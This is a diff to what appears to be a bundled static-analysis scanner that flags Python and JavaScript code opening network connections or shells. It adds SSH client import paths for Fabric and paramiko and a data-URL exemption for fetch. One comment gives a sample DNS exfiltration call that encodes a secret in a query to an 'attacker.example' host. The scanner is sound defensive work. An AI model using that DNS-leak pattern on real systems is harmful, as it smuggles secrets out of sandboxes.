@@ -45034,8 +45034,9 @@ var DEFAULT_SPECS = [
   // The docker SDK: a client of the Docker daemon's API, local or remote; what it does (`containers.run`, `exec_run`:
   // processes started in containers by the daemon) are its requests, all one finding at the construction, as Fabric's.
   py("docker", client("from_env", "DockerClient", "APIClient", "client.from_env", "client.DockerClient", "api.APIClient", "api.client.APIClient"), "network"),
-  // Fabric: an SSH connection to a host, whose `run` starts a shell there.
-  py("fabric", client("Connection"), "network"),
+  // Fabric: an SSH connection to a host, whose `run` starts a shell there; a group makes one per host. Each also from the
+  // submodule defining it (`from fabric.connection import Connection`, as fabric's own modules import it).
+  py("fabric", client(...["Connection", "connection.Connection"], ...["Group", "SerialGroup", "ThreadingGroup"].flatMap((g) => [g, `group.${g}`])), "network"),
   // A name looked up sends a DNS query (a channel out of the sandbox: `loop.getaddrinfo(f"{secret}.attacker.example", 80)`).
   py("asyncio", call(...EVENT_LOOPS.flatMap((l) => LOOP_LOOKUPS.map((m) => `${l}${RETURNED}.${m}`))), "network"),
   // dnspython: queries through the system's resolvers, or sent to a server named (`dns.query.udp(q, "1.2.3.4")`).
@@ -45048,8 +45049,9 @@ var DEFAULT_SPECS = [
   // pycurl: a Curl handle (or a multi handle driving several) is the client that performs the transfers.
   py("pycurl", client("Curl", "CurlMulti"), "network"),
   // paramiko: an SSH client connects (its construction is the one finding); a ProxyCommand runs a shell command.
-  py("paramiko", client("SSHClient", "Transport"), "network"),
-  py("paramiko", call("ProxyCommand"), "shell"),
+  // Each also from the submodule defining it (`from paramiko.client import SSHClient`, as Fabric imports it).
+  py("paramiko", client("SSHClient", "Transport", "client.SSHClient", "transport.Transport"), "network"),
+  py("paramiko", call("ProxyCommand", "proxy.ProxyCommand"), "shell"),
   // Browser automation: a browser (or Playwright's driver) is a process started on this machine; a remote one is a connection.
   py("playwright.sync_api", client("sync_playwright"), "shell"),
   py("playwright.async_api", client("async_playwright"), "shell"),
@@ -54859,6 +54861,41 @@ function looksUpNumericAddress(path3, call2, constants2) {
   const address = host && host.type !== "keyword_argument" ? constants2.stringOf(host) : void 0;
   return address !== void 0 && (0, import_node_net.isIP)(address) !== 0;
 }
+var WHATWG_FETCHES = /* @__PURE__ */ new Set([`${GLOBAL}.fetch`, "undici.fetch"]);
+var URL_IGNORED_START = /^[\x00-\x20]+/;
+var URL_IGNORED_ANYWHERE = /[\t\n\r]/g;
+var DATA_SCHEME = /^data:/i;
+function fetchesDataUrl(path3, call2, constants2) {
+  if (!call2 || path3.members.length !== 1 || !WHATWG_FETCHES.has(`${path3.module}.${path3.members[0]}`)) return false;
+  const start2 = constantStart(namedChildrenOf(call2)[0], constants2);
+  return start2 !== void 0 && DATA_SCHEME.test(start2.replace(URL_IGNORED_START, "").replace(URL_IGNORED_ANYWHERE, ""));
+}
+function constantStart(node2, constants2) {
+  if (!node2) return void 0;
+  const whole = constants2.stringOf(node2);
+  if (whole !== void 0) return whole;
+  switch (node2.type) {
+    case "parenthesized_expression":
+      return node2.namedChildCount === 1 ? constantStart(node2.namedChild(0), constants2) : void 0;
+    case "template_string": {
+      let out2 = "";
+      for (const part of node2.namedChildren) {
+        const text4 = part?.type === "string_fragment" || part?.type === "template_substitution" ? constants2.stringOf(part) : void 0;
+        if (text4 === void 0) return out2;
+        out2 += text4;
+      }
+      return out2;
+    }
+    case "binary_expression": {
+      if (node2.childForFieldName("operator")?.type !== "+") return void 0;
+      const left = node2.childForFieldName("left");
+      const leftText = constants2.stringOf(left);
+      return leftText === void 0 ? constantStart(left, constants2) : leftText + (constantStart(node2.childForFieldName("right"), constants2) ?? "");
+    }
+    default:
+      return void 0;
+  }
+}
 function sendsToConnectedPeer(path3, call2) {
   if (!call2 || path3.members.at(-1) !== "sendmsg") return false;
   const args2 = namedChildrenOf(call2);
@@ -56461,7 +56498,7 @@ function callsOf(callees, args2, resolver, bindings, known, source) {
     }
     const invoked = !reflected && INVOKED_END.test(text4) ? invokedThrough(callee) : void 0;
     const path3 = invoked ? resolver.resolve(invoked, invoked.text) : resolver.resolve(callee, text4);
-    if (!path3 || path3.returns || looksUpNumericAddress(path3, node2.parent, resolver.constants)) continue;
+    if (!path3 || path3.returns || looksUpNumericAddress(path3, node2.parent, resolver.constants) || fetchesDataUrl(normalMembers(path3), node2.parent, resolver.constants)) continue;
     const awaited = first === "await" && !bindings.mayResolve(first) ? /^await\s*/.exec(text4)[0].length : 0;
     const normal = normalMembers(path3);
     calls.push({ start: callee.startIndex + awaited, end: callee.endIndex, callee: oneLine(text4.slice(awaited)), path: normal, form: kind, ...codeOfCall(resolver.filter, resolver.constants, source, normal, kind, node2.parent) });
@@ -61805,7 +61842,7 @@ var MAX_PASS_TREE_CHARS = 2 * 1024 * 1024;
 var BOUNDARY_RULE_IDS = new Set(BOUNDARY_RULES.map((r) => r.id));
 var SUPPRESSIBLE = /* @__PURE__ */ new Set([...BOUNDARY_RULE_IDS, starImport.id, dynamicCode.id]);
 var KEYWORD_BEFORE_SLASH = /\b(?:yield|await)(?=\s*\/(?![/*]))/g;
-var KEYWORD_BOUND = /(?<![\w$.])(?:yield|await)\s*(?:[,)}:\]]|=(?!=)|(?:of|in)(?![\w$]))/;
+var KEYWORD_BOUND = /(?<![\w$.])(?:yield|await)\s*(?:[,)}:\]]|=(?!=)|(?:of|in)(?![\w$]))/g;
 var KEYWORDS = /(?<![\w$.])(?:yield|await)(?![\w$])/g;
 var findingKey = (f) => `${f.rule}:${f.line}:${f.column}:${f.endLine}:${f.endColumn}`;
 function callsOnlyIn(other, these) {
@@ -62089,7 +62126,7 @@ var Scanner = class _Scanner {
    */
   addNameReadings(path3, text4, project, grammar, scan) {
     if (!grammar || grammar === "python" || !scan.parsed) return;
-    const words = KEYWORD_BOUND.test(text4) ? KEYWORDS : text4.search(KEYWORD_BEFORE_SLASH) >= 0 ? KEYWORD_BEFORE_SLASH : void 0;
+    const words = someInCode(text4, KEYWORD_BOUND, "literals") ? KEYWORDS : someInCode(text4, KEYWORD_BEFORE_SLASH, "literals") ? KEYWORD_BEFORE_SLASH : void 0;
     if (!words) return;
     const asNames = this.scanText(path3, text4.replace(words, (word) => `${word.slice(0, -1)}$`), false, project, grammar).scan;
     scan.findings.push(...callsOnlyIn(asNames.findings, scan.findings));
